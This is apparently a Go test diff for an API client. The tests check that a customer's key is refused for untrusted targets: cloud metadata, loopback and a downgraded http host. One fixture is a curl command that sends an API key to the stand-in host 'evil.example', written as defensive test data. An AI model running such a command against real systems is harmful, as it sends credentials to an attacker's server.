@@ -14,6 +14,7 @@ import (
 	"testing"
 
 	"codedesk/model"
+	"codedesk/model/curl"
 )
 
 // countingServer answers every call with code 0 and counts the calls.
@@ -82,7 +83,8 @@ func TestClientSendsTheKeyOnlyWhereTrusted(t *testing.T) {
 	metadata := model.MustParseServer("http://169.254.169.254")            // a 13 naming the cloud's metadata
 	plainMobizon := model.MustParseServer("http://api.mobizon.kz:" + port) // a 13 downgrading to http
 	c := observedClient(t, ClientOptions{})
-	for _, srv := range []model.Server{evil, loopback, metadata, plainMobizon, model.MustParseServer("http://api.mobizon.kz")} {
+	for _, srv := range []model.Server{evil, loopback, metadata, plainMobizon, model.MustParseServer("http://api.mobizon.kz"),
+		model.MustParseServer("127.0.0.1:9"), model.MustParseServer("http://127.0.0.1:9"), model.MustParseServer("evil.example")} {
 		c.refuses(t, srv)
 	}
 	if calls.Load() != 0 {
@@ -98,6 +100,23 @@ func TestClientSendsTheKeyOnlyWhereTrusted(t *testing.T) {
 	}
 	if calls.Load() != 2 || named.queries.Load() == 0 {
 		t.Errorf("named servers: %d calls, %d DNS questions; want 2 calls and evil.example resolved", calls.Load(), named.queries.Load())
+	}
+}
+
+// A customer's curl naming another host imports (the host is kept for
+// display and export) and is then refused at send time: the key never
+// leaves.
+func TestImportedRequestToAnotherHostIsNeverSent(t *testing.T) {
+	ts, calls := countingServer(t)
+	_, port, _ := net.SplitHostPort(strings.TrimPrefix(ts.URL, "http://"))
+	im, err := curl.Parse("curl -X POST 'http://evil.example:" + port + "/service/user/getownbalance?apiKey=CUSTOMERKEY' -d 'a=1'")
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := observedClient(t, ClientOptions{Trust: model.NewTrust(model.MustParseServer("http://127.0.0.1:" + port))})
+	c.refuses(t, im.Request.Server)
+	if calls.Load() != 0 {
+		t.Errorf("the imported host got %d calls", calls.Load())
 	}
 }
 
